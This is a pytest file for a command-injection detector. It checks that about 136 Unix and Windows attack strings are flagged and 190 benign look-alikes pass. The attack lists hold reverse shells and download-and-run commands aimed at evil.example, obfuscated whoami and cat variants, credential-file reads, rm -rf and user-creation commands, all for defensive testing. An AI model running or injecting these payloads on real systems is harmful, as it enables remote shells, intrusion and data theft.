"""What a shell would run is found however it is written; prose, logs and formulas that name the same words pass."""

from __future__ import annotations

import pytest

from sallygate.controls.injection.judges.command import command_judge
from sallygate.controls.injection.pipeline.evidence import LIKELY, Evidence
from sallygate.controls.injection.pipeline.prefilter import Prefilter

PREFILTER = Prefilter([command_judge.JUDGE.triggers])

UNIX = r"""
; cat /srv/app/secret.txt
;cat</srv/app/secret.txt
| tac /etc/group
|| wget http://evil.example/x.sh
&& curl -s http://evil.example/x | sh
& ping -c 9 203.0.113.9 &
;nslookup x.evil.example
10.0.0.1; uname -r
10.0.0.1 | whoami
10.0.0.1 && whoami
10.0.0.1;uname
report.pdf;ls -la /home
report.pdf|ls -la /home
name=x;id;
"; id; "
'; sleep 20 #
$(sleep 20)
$(whoami)
`whoami`
`sleep 20`
x`id`
x$(id)y
$(cat /srv/flag)
; /bin/ls -R /
;/usr/bin/wget evil.example
/usr/bin/perl x.pl
/bin/cat /srv/flag
;c'a't /srv/flag
;c"a"t /srv/flag
;c\at /srv/flag
;w$@hoami
;who''ami
;'whoami'
;cat$IFS/srv/flag
;cat${IFS}/srv/flag
cat${IFS%??}/srv/flag
;{ls,-la,/srv}
{wget,http://evil.example/x}
;/???/c?t /srv/flag
/bin/c[a]t /srv/flag
;cat /et?/passw?
;sudo -u root sh x.sh
;sudo id
; nohup nc -lvp 4444
; time -p sleep 9
nc -e /bin/sh evil.example 4444
bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
; exec 5<>/dev/tcp/evil.example/80
sh -c 'id'
python3 -c 'import os'
; perl -e 'print 1'
; php -r 'phpinfo();'
() { :; }; echo x
() { _; } >_[$($())] { id; }
cat /srv/flag
whoami
uname -a
curl http://evil.example/x
wget -O- evil.example
nmap -sS 10.0.0.0/24
ls -la
rm -rf /srv
which nc
--upload-pack=x
-oProxyCommand=x
git --exec=x
mkfifo /tmp/p
bash <<< 'id'
${PATH:0:1}
;ps aux
;aws s3 ls
;nproc
;dd if=/dev/zero
;echo x
|echo x
; cd ..
;date
;usleep 9
| df -h
; exec id
;ping evil.example
| nslookup -type=txt evil.example
& telnet evil.example 25
;id 2>&1
ls /
; find / -perm -4000
w'h'o'am'i
"w"h"o"am"i
who$@ami
wh$*oami
who``ami
u^na^me
;rm /etc/pass*
/etc/pass?d
';id'
")|id
""".strip().split("\n")

WINDOWS = r"""
& dir c:\
+|+dir+c:/
&&+|+dir c:/
dir+c:
ping.exe -n 31 127.0.0.1
| type c:\inetpub\x.txt
&& ipconfig /all
cmd /c dir
cmd.exe /k whoami
; net user x y /add
| net localgroup administrators
&tasklist
& systeminfo &
| reg query HKLM\Software
certutil -urlcache -f http://evil.example/x x
bitsadmin /transfer x http://evil.example/x c:\x
powershell -nop -w hidden
powershell.exe -e SQBFAFgAIAA1ADUANQA1
IEX (New-Object Net.WebClient).DownloadString('http://evil.example')
; Get-ChildItem
Invoke-WebRequest http://evil.example
[System.Convert]::FromBase64String('eA==')
wmic process list brief
rundll32 x.dll,Run
mshta http://evil.example/x
for /f %i in (x) do @echo %i
if exist c:\x echo y
%COMSPEC% x
%windir:~0,3%
& timeout 20
| findstr /s x c:\*
netsh firewall show
regsvr32 /s /u x.dll
w^h^o^a^m^i
;calc.exe
& notepad.exe
|calc
& cd ..
& ren a b
Start-Sleep -s 9
""".strip().split("\n")

HONEST = r"""
lastlog
passwd
regedit
Tom & Jerry
C++
more+or+less
red+and+blue
ping+pong
cat & dog
AT&T
R&D; sales
fish & chips; salt
time to sleep 8 hours
sleep 8 hours a night
the cat; the dog
cats and dogs; find more
find a hotel near me
sort by date
date
time
test
host
more
list of users; groups and roles
Please kill the process and restart.
who is there
who
make up your mind
echo chamber
Echo Dot 4
head of state
tail lights
more | less
yes|no|maybe
date|time|user|host
id|name|type
utm_source=x|utm_medium=y|cat=z
a=1;b=2;c=3
path=/;domain=.a.example;secure
text/html;charset=utf-8
Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36
en-GB,en;q=0.9,de;q=0.8
gzip, deflate, br
H2SO4 + 2NaOH -> Na2SO4 + 2H2O
Ca(OH)2; NaCl
(x) => { return x; }
function () { return 1; }
var f = function() { return this; };
() { return }
$19.99
US$ 5
$(document).ready(init)
$('#id').click()
$("table")
${USER_ID}
${GDPR_CONSENT_755}
{{name}}
[[id]]
%%CACHEBUSTER%%
Use `git status` to see the changes you have made
Run `ls -la` and then tell me what you see
The `id` field is required and the `name` is not
at com.example.App.main(App.java:12)
Traceback (most recent call last):
File "/app/x.py", line 3, in <module>
TypeError: cannot read property 'id' of undefined
2024-05-01 12:00:00 INFO user logged in
[error] 12#0: upstream timed out
v1.2.3-beta+4
https://a.example/bin/x?id=1&cat=2
https://a.example/?a=1&sort=date&type=x
/api/v1/users?sort=name&order=asc
foo@a.example; bar@a.example
"Doe, J." <j@a.example>; "Roe, R." <r@a.example>
C:\Users\me\Documents\report.docx
I saved it as C:\Users\me\Documents\report.docx yesterday
body { color: red; font: 12px/1.5 sans-serif; }
.a{margin:0}.b{top:0;left:0}
@media (max-width: 600px) { .x { display: none } }
M10 10 L20 20 Z
<a href="../cat/1">cat; dog</a>
a && b || c
if (a && b) { c(); }
x > 1 & y < 2
5 > 3
cut, copy & paste
cut; copy; paste
net; gross
net income
mount everest
last; first
man, woman & child
top 10
less is more
ping me later
host & guest
Top 10; best of
script
Copy of report (1).pdf
watch now; pay later
go; set; ready
touch screen & pen
price: 10; id: 5
w=300;h=200
sh.st
ls.example
(id, name)
ID; Name; Date
who's who; what's what
history; geography; latin
patch 1.2; update
type A; type B
screen;print
rock & roll
set, match & game
what is the date today
tree of life & death
node.js
Ruby & Python
php, python, ruby
SSH & SFTP
I am ~ 5 minutes away
email me at jo@a.example
1-800-555-0199
-1
--
-x
--help me
5 - 3
sale -50%
100% free; 50% off
:-) ;-)
;)
¯\_(ツ)_/¯
{a,b}
{"a":"b","cat":"dog"}
[1,2,3]
x^2 + y^2
a*b*c
*.txt
~10
!important
What!? Yes!
#1; #2
| Home
| AWS | Azure
AWS; GCP; Azure
John; Hydra; Arch
; vault doors
| Arch Linux
mvn clean install
| Date
| Sport
| touch screens
| sleep aids
& more
& Sons
& sort by
& echo of the past
; type A
; host family wanted
; free shipping
sale; free items
this; that
&reg;
&reg; 2024
&copy; 2024 A
a&reg;b
&date
&sort=asc
ping
ping google.com
curl a.example
time curl a.example
whois example.com
host example
java -version
free -m
rock'n'roll
fo'c's'le
a'b'c'd
f'(x), f''(x)
don''t
A$AP
a^b
x^2
a\b\c\d
src\lib\a\b
you should grep the logs; then tail them
""".strip().split("\n")


def judged(text: str) -> Evidence | None:
    hits = PREFILTER.hits(text).get(0)
    return command_judge.JUDGE.judge(text, hits) if hits else None


def score_of(text: str) -> int:
    found = judged(text)
    return found.score if found is not None else 0


def test_commands_are_found() -> None:
    attacks = UNIX + WINDOWS
    assert (len(UNIX), len(WINDOWS)) == (96, 40)
    assert [text for text in attacks if score_of(text) < LIKELY] == []


def test_what_only_looks_like_it_passes() -> None:
    assert len(HONEST) == 190
    assert {text: score for text in HONEST if (score := score_of(text)) >= LIKELY} == {}


@pytest.mark.parametrize(
    ("text", "rule", "span"),
    [
        ("x; whoami", "chained", "; whoami"),
        ("x $(uname) y", "substitution", "$(uname) y"),
        ("/usr/bin/wget x", "program-path", "/usr/bin/wget"),
        ("x >& /dev/tcp/a", "device", "/dev/tcp/"),
        ("see; Invoke-Expression", "powershell", "Invoke-Expression"),
        ("x & dir  c:\\", "chained", "& dir  c:\\"),
        ("-oProxyCommand=x", "option", "-oProxyCommand"),
    ],
)
def test_spans_hold_what_was_found(text: str, rule: str, span: str) -> None:
    found = judged(text)
    assert found is not None
    assert (found.family, found.rule, text[found.start : found.end]) == ("command", rule, span)


def test_case_and_letters_that_grow_in_lower_case_move_no_span() -> None:
    text = "\u0130\u0130; WhoAmI"
    found = judged(text)
    assert found is not None
    assert text[found.start : found.end] == "; WhoAmI"


def test_a_text_that_names_programs_without_end_is_refused_for_that() -> None:
    assert score_of(";at a" * 1600) == LIKELY
    assert score_of(";at`at`b" * 600) >= LIKELY


@pytest.mark.parametrize("column", ["yes\n", "|yes", "date|time|", "id\n", "w\n"])
def test_columns_of_words_pass_however_long(column: str) -> None:
    assert score_of((column * 8192)[: 8192 // len(column) * len(column)]) < LIKELY


def test_a_command_below_a_long_column_is_found() -> None:
    assert score_of("|yes" * 1500 + "|" + "; wget http://evil.example/x") >= LIKELY


HOSTILE = (";", ";a", ";id", ";at ", "|", "|a|", "||", "&", "\n", "\na", "`", "`a", "`id` ", "$(", "$(a", "$", "${", "${a", "$(`", "{", "{a,", "{,", "'", "a'", "a'b", "\"", "\\", "a\\",
           "^", "a^", "/", "/a", "/?", "/*", "/[", "/[a", "/etc/", "bin/", "bin/a", "(", "()", "() ", "(){", "<", "<a", "<(", "<<<", "a ", "ab ", " ", "\t", "if ", "if a", "if a==", "for /d ", "for %",
           "net ", "cmd /", "wmic ", "certutil ", "powershell", "iex ", "-e A", "-", "--", "[net.", "[net.a", "nc -", "nc -a ", "sh -", " -", "sudo ", ";sudo -a ", "time ", "a.", "../", "~", "!", "!!", "%temp", "a%0a",
           "dir /a ", "d:\\", " a:\\", "function", "var ", '{"a', "\u0130;", "\ud800;", "\u4e00", "\x1e", "a-b;")  # fmt: skip


@pytest.mark.parametrize("shape", HOSTILE)
def test_hostile_shapes_of_a_whole_window_return(shape: str) -> None:
    every = list(range(len(command_judge.JUDGE.triggers)))
    for lead in ("", ";", "$(", "("):
        text = (lead + shape * 8192)[:8192]
        found = command_judge.JUDGE.judge(text, every)
        assert found is None or 0 <= found.start <= found.end <= len(text)
